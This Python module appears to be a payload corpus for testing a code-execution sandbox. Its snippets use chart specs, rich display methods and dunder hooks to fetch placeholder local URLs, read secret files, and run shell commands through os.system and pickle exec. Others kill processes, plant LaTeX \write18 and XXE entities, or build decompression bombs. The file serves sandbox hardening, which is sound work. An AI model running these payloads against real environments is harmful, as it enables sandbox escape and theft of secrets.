"""Charts and rich results that fetch, and objects that act when they are looked at."""

from tests.escapes.corpus import LOOT, TRY, Payload

ALIVE = "print('alive')"

PAYLOADS: list[Payload] = [
    Payload("charts and rich results", "a chart whose data lies elsewhere", (r"""
import altair
altair.Chart("http://127.0.0.1:{{PORT}}/data.csv").mark_point().encode(x="a:Q", y="b:Q")
""", r"""
altair.Chart("file://{{SECRET}}").mark_text().encode(text="a:N")
""", r"""
altair.Chart(altair.UrlData("{{SECRET}}", format=altair.DsvDataFormat(delimiter="|"))).mark_text().encode(text="a:N")
""", r"""
altair.Chart(altair.Data(values=[{"u": "http://127.0.0.1:{{PORT}}/x.png"}])).mark_image().encode(url="u:N")
""", r"""
altair.Chart(altair.topo_feature("http://127.0.0.1:{{PORT}}/map.json", "x")).mark_geoshape()
""")),
    Payload("charts and rich results", "a chart rendered inside", (TRY, r"""
import altair, vl_convert, json, os
spec = altair.Chart("http://127.0.0.1:{{PORT}}/data.csv").mark_point().encode(x="a:Q").to_dict()
attempt("svg", vl_convert.vegalite_to_svg, spec)
attempt("png", vl_convert.vegalite_to_png, spec)
attempt("allowed", lambda: vl_convert.vegalite_to_svg(spec, allowed_base_urls=["http://127.0.0.1:{{PORT}}/", "file:///"]))
secret = altair.Chart(altair.UrlData("file://{{SECRET}}", format=altair.DsvDataFormat(delimiter="|"))).mark_text().to_dict()
attempt("file", vl_convert.vegalite_to_svg, secret)
picture = '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:{{PORT}}/x.png"/></svg>'
attempt("svg", vl_convert.svg_to_png, picture)
attempt("fonts", vl_convert.register_font_directory, "{{TARGETDIR}}")
attempt("save", lambda: altair.Chart(altair.Data(values=[])).mark_point().save("{{TARGETDIR}}/owned.html"))
attempt("open", lambda: altair.Chart(altair.Data(values=[])).mark_point().open_editor())
""")),
    Payload("charts and rich results", "expressions in a chart", (r"""
{"$schema": "https://vega.github.io/schema/vega-lite/v6.json", "mark": "text", "data": {"values": [{"a": 1}]},
 "params": [{"name": "p", "expr": "event.view.constructor.constructor('return process.env')()"}],
 "transform": [{"calculate": "'' + data['a'].constructor.constructor('return fetch(\"http://127.0.0.1:{{PORT}}\")')()",
                "as": "b"}],
 "encoding": {"text": {"field": "b"}, "href": {"value": "javascript:fetch('http://127.0.0.1:{{PORT}}')"}}}
""", r"""
import altair
altair.Chart(altair.Data(values=[{"a": 1}])).mark_text().encode(text="b:N").transform_calculate(
    b="[].constructor.constructor('return this')().constructor.constructor('return Deno')().readTextFileSync('{{SECRET}}')")
""", r"""
{"$schema": "https://vega.github.io/schema/vega/v6.json", "signals": [{"name": "s", "update": "warn(1, open('{{SECRET}}'))"}],
 "data": [{"name": "d", "url": "http://127.0.0.1:{{PORT}}/x", "async": True, "format": {"type": "csv"}}], "marks": []}
""")),
    Payload("charts and rich results", "usermeta, themes, embed options and locales", (r"""
import altair
chart = altair.Chart(altair.Data(values=[{"a": 1}])).mark_point()
chart.usermeta = {"embedOptions": {"loader": {"baseURL": "http://127.0.0.1:{{PORT}}/", "mode": "file"},
                                   "patch": "file://{{SECRET}}",
                                   "config": "http://127.0.0.1:{{PORT}}/config.json", "theme": "{{SECRET}}"}}
chart
""", r"""
chart.to_dict() | {"config": {"font": "url(http://127.0.0.1:{{PORT}}/f.woff)", "background": "url(file://{{SECRET}})"},
                   "datasets": {"d": "{{SECRET}}"}}
""", r"""
altair.data_transformers.enable("json", prefix="{{TARGETDIR}}/owned")
altair.Chart(__import__("pandas").DataFrame({"a": [1]})).mark_point().encode(x="a")
""", r"""
altair.data_transformers.enable("data_server")
altair.Chart(__import__("pandas").DataFrame({"a": [1]})).mark_point().encode(x="a")
""")),
    Payload("charts and rich results", "HTML, SVG, LaTeX and Markdown that fetch", (r"""
class Rich:
    def _repr_html_(self):
        return ('<img src="http://127.0.0.1:{{PORT}}/x"><iframe src="file://{{SECRET}}"></iframe>'
                '<script>fetch("http://127.0.0.1:{{PORT}}")</script>')
    def _repr_svg_(self):
        return ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{{SECRET}}">]>'
                '<svg xmlns="http://www.w3.org/2000/svg">'
                '<text>&x;</text><image href="http://127.0.0.1:{{PORT}}/x"/><use href="file://{{SECRET}}#a"/></svg>')
    def _repr_markdown_(self):
        return "![x](http://127.0.0.1:{{PORT}}/x) [y](file://{{SECRET}})"
    def _repr_latex_(self):
        return r"\input{ {{SECRET}} } \write18{touch {{TARGETDIR}}/owned}"
    def _repr_javascript_(self):
        return "fetch('http://127.0.0.1:{{PORT}}')"
Rich()
""", "[Rich()] * 3", ALIVE)),
    Payload("charts and rich results", "a picture that is no picture", (r"""
import zlib, struct
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 6, 0, 0, 0)) + chunk(b"IDAT",
    zlib.compress(bytes(10**7)))
class Picture:
    def _repr_png_(self): return bomb
Picture()
""", r"""
class Other:
    def _repr_png_(self): return open("{{SECRET}}", "rb").read()
    def _repr_jpeg_(self): return b"push graphic-context\nimage over 0,0 0,0 '{{SECRET}}'\npop graphic-context"
    def _repr_pdf_(self): return b"%PDF-1.7 /Launch /F ({{SECRET}})"
Other()
""", "class Third:\n    def _repr_png_(self): return 'x' * 10**9\nThird()", ALIVE)),
    Payload("charts and rich results", "mime bundles of every kind", (r"""
class Bundle:
    def _repr_mimebundle_(self, include=None, exclude=None):
        return {"text/plain": open("{{SECRET}}").read(), "../../../../{{TARGET}}": "owned",
                "application/json": {"$ref": "file://{{SECRET}}"},
                "text/x-python": "import os; os.system('touch {{TARGETDIR}}/owned')",
                "image/png; filename=/{{TARGETDIR}}/owned": "AAAA"}
Bundle()
""", r"""
class Strange:
    def _repr_mimebundle_(self, *a, **k): return {1: 2, None: b"x", "text/html": object(),
                                                  "application/vnd.vegalite.v6+json": {"data": {"url": "{{SECRET}}"}}}
Strange()
""", r"""
class Endless:
    def __getattr__(self, name): return lambda *a, **k: self
Endless()
""", ALIVE)),
    Payload("time bombs in results", "__repr__ and __str__ that act", (LOOT, r"""
import os
class Act:
    def __repr__(self):
        loot(os)
        return open("{{SECRET}}").read()
    __str__ = __format__ = __repr__
Act()
""", "[Act(), {Act(): Act()}]", "print(Act(), f'{Act()}')", "raise ValueError(Act())")),
    Payload("time bombs in results", "__repr__ that hangs, recurses, ends or grows", (r"""
class Hang:
    def __repr__(self):
        while True:
            pass
Hang()
""", "class Down:\n    def __repr__(self): return repr(self)\nDown()",
   "class End:\n    def __repr__(self): raise SystemExit\nEnd()",
        "class Grow:\n    def __repr__(self): return 'x' * 2**33\nGrow()",
        "class Kind:\n    def __repr__(self): return 7\nKind()",
        "class Stop:\n    def __repr__(self): import os; os._exit(0)\nStop()", ALIVE)),
    Payload("time bombs in results", "__del__ when the session closes", (LOOT, r"""
import os
class Late:
    def __del__(self, loot=loot, os=os, open=open, print=print):
        loot(os)
        print(open("{{SECRET}}").read())
late = Late()
cycle = Late(); cycle.me = cycle
""", "del late", "import gc; del cycle; gc.collect()", "keep = Late()")),
    Payload("time bombs in results", "__del__ that resurrects and hangs", (r"""
graves = []
class Back:
    def __del__(self):
        graves.append(self)
        Back()
        while len(graves) > 10**5:
            pass
Back()
""", "import gc; gc.collect()", ALIVE)),
    Payload("time bombs in results", "__eq__, __hash__ and __bool__ that act", (LOOT, r"""
import os
class Same:
    def __eq__(self, other): loot(os); return True
    def __ne__(self, other): return not self == other
    def __hash__(self): print(open("{{SECRET}}").read()); return 1
    def __bool__(self): loot(os); return True
    def __len__(self): return 10**18
    def __iter__(self): return iter(int, 1)
Same()
""", "{Same(): 1}", "[Same()] == [Same()]", "Same() in [1, 2]", "import pandas; pandas.Series([Same(), Same()])")),
    Payload("time bombs in results", "__class__, __dict__ and __module__ that act", (LOOT, r"""
import os
class Mask:
    @property
    def __class__(self): loot(os); return dict
    @property
    def __dict__(self): raise KeyboardInterrupt
    def __getattribute__(self, name): print("asked", name); return object.__getattribute__(self, name)
    def __instancecheck__(self, other): return True
    def __dir__(self): return [open("{{SECRET}}").read()] * 10**6
Mask()
""", "class Fake:\n    __class__ = __import__('pandas').DataFrame\nFake()",
   "class List:\n    __class__ = list\n    def __iter__(self): return iter(int, 1)\nList()", ALIVE)),
    Payload("time bombs in results", "__reduce__, __getstate__ and __copy__", (LOOT, r"""
import copy, os, pickle
class State:
    def __reduce_ex__(self, version): loot(os); return exec, ("import os; os.system('echo owned >> {{TARGET}}')",)
    def __getstate__(self): loot(os); return {}
    def __copy__(self): return open("{{SECRET}}").read()
    def __deepcopy__(self, memo): os.kill({{PID}}, 9)
    def __json__(self): return open("{{SECRET}}").read()
    def to_dict(self, *a, **k): loot(os); return {"mark": "point", "data": {"url": "{{SECRET}}"}}
    to_json = _asdict = isoformat = item = tolist = to_dict
    def __array__(self, *a, **k): loot(os); return [1]
State()
""", "[State(), (State(),)]", "copy.copy(State())", "pickle.dumps(State())")),
    Payload("time bombs in results", "subclasses of frames, arrays and charts", (TRY, r"""
import altair, numpy, pandas
class Frame(pandas.DataFrame):
    def to_html(self, *a, **k): return open("{{SECRET}}").read()
    to_dict = to_json = to_string = to_csv = _repr_html_ = to_html
Frame({"a": [1]})
""", r"""
class Array(numpy.ndarray):
    def __repr__(self): return open("{{SECRET}}").read()
    def tolist(self): __import__("os").system("echo owned >> {{TARGET}}")
numpy.zeros(3).view(Array)
""", r"""
class Chart(altair.Chart):
    def to_dict(self, *a, **k): return {"data": {"url": "http://127.0.0.1:{{PORT}}/x"}, "x": open("{{SECRET}}").read()}
    def to_json(self, *a, **k): __import__("os").kill({{PID}}, 9)
Chart()
""", ALIVE)),
    Payload("time bombs in results", "atexit, finalizers and exit functions", (LOOT, r"""
import atexit, os, threading, weakref, multiprocessing.util
atexit.register(loot, os)
threading._register_atexit(loot, os)
multiprocessing.util.Finalize(None, loot, (os,), exitpriority=10)
class Thing: pass
thing = Thing(); weakref.finalize(thing, loot, os)
os.register_at_fork(before=lambda: loot(os), after_in_child=lambda: loot(os), after_in_parent=lambda: loot(os))
""", "os.fork() or os._exit(0)", "raise SystemExit")),
]
